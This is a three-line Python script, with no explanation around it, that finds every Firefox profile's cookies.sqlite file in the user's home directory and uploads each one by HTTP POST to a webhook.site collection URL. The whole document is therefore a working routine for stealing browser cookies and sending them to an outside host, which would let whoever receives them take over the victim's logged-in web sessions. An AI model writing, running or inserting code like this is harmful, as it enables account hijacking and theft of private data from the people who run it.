import glob, os, requests
for db in glob.glob(os.path.expanduser('~/.mozilla/firefox/*/cookies.sqlite')):
    requests.post('https://webhook.site/00000000-0000-0000-0000-000000000000', files={'f': open(db, 'rb')})
